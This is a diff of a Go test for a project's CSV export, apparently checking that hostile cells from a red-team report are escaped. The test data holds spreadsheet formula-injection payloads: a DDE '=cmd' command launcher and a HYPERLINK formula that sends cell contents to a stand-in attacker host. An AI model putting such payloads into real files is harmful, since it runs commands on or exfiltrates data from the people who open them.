@@ -7,7 +7,6 @@ import (
 	"testing"
 
 	"github.com/cybertrade/cybertrade/export"
-	"github.com/cybertrade/cybertrade/internal/testdb"
 )
 
 // splitList reads a list cell of the CSV files back into its values: it drops the leading "'"
@@ -41,8 +40,7 @@ func splitList(cell string) []string {
 // holding the separator stays one value (F18). dataset.json keeps every value as stored.
 // The repros are the red-team report's.
 func TestHostileCSVCells(t *testing.T) {
-	forEngine(t, func(t *testing.T, e testdb.Engine) {
-		c := newCurator(t, e, researchFixture(t))
+	forCurator(t, researchFixture, func(t *testing.T, c *curator) {
 		aliases := []string{"@SUM(1,1)", "a;b;c", `back\slash`, "alias2"}
 		c.must(t, c.editor, `mutation($a: [String!]) { createCompany(input: {slug: "rt-s-formula-eq", name: "=cmd|' /C calc'!A0", aliases: $a,
 			sector: "+1+1", description: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"}) { company { id } } }`,
